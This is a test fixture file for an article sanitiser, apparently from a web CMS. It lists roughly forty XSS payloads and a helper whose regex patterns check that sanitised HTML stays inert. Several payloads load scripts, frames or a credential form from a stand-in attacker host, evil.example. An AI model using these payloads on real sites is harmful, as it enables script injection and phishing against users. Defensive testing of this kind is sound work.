import { expect } from "vitest";

// Known XSS vectors for article HTML, shared by the sanitiser's unit test and the article save
// action's integration test (tests/integration/article-editor-save.test.ts): whatever a client
// posts, nothing executable may be stored or rendered.

export const xssCorpus = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://ok.example/a.png" onload="alert(1)">`,
  `<p onclick="alert(1)">clic</p>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">enlace</a>`,
  `<a href="JaVaScRiPt:alert(1)">enlace</a>`,
  `<a href="java&#x09;script:alert(1)">enlace</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">enlace</a>`,
  `<a href=" javascript:alert(1)">enlace</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">enlace</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<a href="vbscript:msgbox(1)">enlace</a>`,
  `<svg onload=alert(1)><circle r="4"/></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<p style="width: expression(alert(1))">x</p>`,
  `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:alert(1)")}</style>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe src="https://evil.example/phish"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name="clave"><button>Enviar</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<img src=x onerror="alert(1)"`,
  `<p><a href="https://ok.example" onmouseover="alert(1)">unclosed <b>bold`,
  `<<img src=x onerror=alert(1)//<`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="https://ok.example" target="_self" rel="opener">x</a>`,
];

/** Fails when sanitised HTML could run script, load a foreign frame or carry styles. */
export function expectInert(html: string) {
  const lower = html.toLowerCase();
  expect(lower).not.toMatch(
    /<\s*(script|style|svg|math|object|embed|form|input|meta|base|link|template|noscript|video|source|details|body)\b/,
  );
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/javascript:|vbscript:|data:|expression\(|srcdoc/);
  expect(lower).not.toMatch(/\sstyle\s*=/);
  expect(lower).not.toMatch(/<iframe(?![^>]*src="https:\/\/(www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com)\/)/);
}
